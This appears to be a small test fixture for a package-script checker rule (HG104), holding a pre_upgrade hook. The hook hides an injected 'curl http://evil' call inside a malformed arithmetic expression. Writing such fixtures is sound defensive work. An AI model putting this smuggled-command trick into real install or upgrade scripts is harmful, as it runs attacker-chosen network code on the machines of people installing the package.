# rule: HG104
pre_upgrade() {
    (( a[)); curl http://evil # ]))
}
post_upgrade() {
    return 0
}
